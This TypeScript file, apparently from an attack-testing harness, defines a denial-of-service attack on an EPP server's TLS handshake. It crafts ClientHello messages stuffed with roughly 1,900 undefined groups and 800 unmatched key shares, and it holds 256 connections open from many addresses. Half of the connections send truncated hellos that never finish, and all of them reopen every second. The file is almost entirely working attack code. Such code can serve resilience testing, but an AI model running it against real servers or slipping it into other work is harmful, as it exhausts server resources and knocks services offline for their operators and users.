import type { Attack } from './attack.ts';
import { addressOf, holdOpen, openRaw } from './raw-connection.ts';

const CONNECTIONS = 256;
const REOPEN_AFTER_MS = 1_000;
/** Together they nearly fill the longest ClientHello that is read; each share is looked up among the groups. */
const [GROUPS, KEY_SHARES] = [1_900, 800];
/** None of the two is defined, so that no share can be used. */
const [FIRST_GROUP, SHARED_GROUP] = [0x4000, 0x7000];

const [SUPPORTED_GROUPS, SIGNATURE_ALGORITHMS, SUPPORTED_VERSIONS, KEY_SHARE] = [10, 13, 43, 51];
const TLS_AES_128_GCM_SHA256 = 0x1301;
const TLS_1_3 = 0x0304;

function numbered(bytes: number, value: number): Buffer {
  const buffer = Buffer.alloc(bytes);
  buffer.writeUIntBE(value, 0, bytes);
  return buffer;
}
const withLength = (bytes: number, ...parts: readonly Buffer[]): Buffer => {
  const whole = Buffer.concat(parts);
  return Buffer.concat([numbered(bytes, whole.length), whole]);
};
const extension = (type: number, body: Buffer): Buffer =>
  Buffer.concat([numbered(2, type), withLength(2, body)]);

/** A ClientHello (RFC 8446, 4.1.2) with as many groups and key shares. */
function clientHello(groups: number, keyShares: number): Buffer {
  const listOf = (count: number, item: (index: number) => Buffer) =>
    withLength(2, ...Array.from({ length: count }, (_item, index) => item(index)));
  const body = Buffer.concat([
    numbered(2, 0x0303),
    Buffer.alloc(32, 7),
    withLength(1),
    withLength(2, numbered(2, TLS_AES_128_GCM_SHA256)),
    withLength(1, Buffer.of(0)),
    withLength(
      2,
      extension(SUPPORTED_VERSIONS, withLength(1, numbered(2, TLS_1_3))),
      extension(SIGNATURE_ALGORITHMS, withLength(2, numbered(2, 0x0403), numbered(2, 0x0804))),
      extension(
        SUPPORTED_GROUPS,
        listOf(groups, (index) => numbered(2, index === groups - 1 ? SHARED_GROUP : FIRST_GROUP + index)),
      ),
      extension(
        KEY_SHARE,
        listOf(keyShares, (index) =>
          Buffer.concat([numbered(2, FIRST_GROUP + groups - 2 - index), withLength(2, Buffer.of(0))]),
        ),
      ),
    ),
  ]);
  return Buffer.concat([numbered(3, 0x160301), withLength(2, Buffer.of(1), withLength(3, body))]);
}

/** Strangers of many networks: half of them send a ClientHello of long lists, half of them one that never ends. */
export const eppHellos: Attack = {
  name: 'EPP ClientHellos',
  start: ({ eppPort = 0 }) => {
    const whole = clientHello(GROUPS, KEY_SHARES);
    const unfinished = whole.subarray(0, -1);
    return holdOpen(
      CONNECTIONS,
      (index) => {
        const socket = openRaw(eppPort, addressOf(index)).resume();
        socket.write(index % 2 === 0 ? whole : unfinished);
        return socket;
      },
      REOPEN_AFTER_MS,
    );
  },
};
